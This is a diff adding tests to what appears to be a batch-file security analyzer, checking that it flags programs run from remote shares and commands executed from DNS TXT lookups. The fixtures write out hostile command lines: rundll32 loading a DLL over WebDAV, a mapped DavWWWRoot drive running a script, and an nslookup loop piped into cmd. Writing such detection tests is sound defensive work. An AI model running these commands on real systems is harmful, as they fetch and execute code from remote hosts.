@@ -204,6 +204,28 @@ describe('batch', () => {
     expect(result.of('env').map((fact) => show(fact.name))).toEqual(['*']);
   });
 
+  it('runs what lies on another machine', async () => {
+    for (const source of [
+      'rundll32 \\\\files.example@SSL\\share\\x.dll,Start',
+      '\\\\files.example\\s\\run.exe',
+      'net use Z: \\\\files.example@443\\DavWWWRoot\\e && Z:\\run.bat',
+    ]) {
+      const result = await read(batch, 'x.bat', source);
+      expect(result.of('request').map((fact) => show(fact.url))[0], source).toMatch(/^smb:\/\/files\.example\//);
+      expect(result.of('exec').some((fact) => fact.code === 'file')).toBe(true);
+    }
+    expect((await read(batch, 'x.bat', 'net use Z: \\\\fileserver\\tools\ncopy \\\\srv.example\\s\\a.txt c:\\b.txt')).of('request')).toEqual([]);
+  });
+  it('runs what a fetched answer says', async () => {
+    const loop = await read(batch, 'x.bat', `for /f "tokens=*" %i in ('nslookup -q=txt a.example ^| findstr Name') do cmd /c %i`);
+    expect(loop.of('exec').some((fact) => fact.code === 'argument' && fact.how === 'shell')).toBe(true);
+    const honest = await read(
+      batch,
+      'x.bat',
+      `for /f %%i in ('git rev-parse HEAD') do set X=%%i\nfor /f %%i in ('curl -s https://x.example/v') do echo %%i`,
+    );
+    expect(honest.of('exec').some((fact) => fact.code === 'argument')).toBe(false);
+  });
   it('honest files state only programs', async () => {
     const result = await run(
       '@echo off\nrem build\ncd /d %~dp0\npython -m venv .venv\ncall .venv\\Scripts\\activate\npip install -r requirements.txt\n',
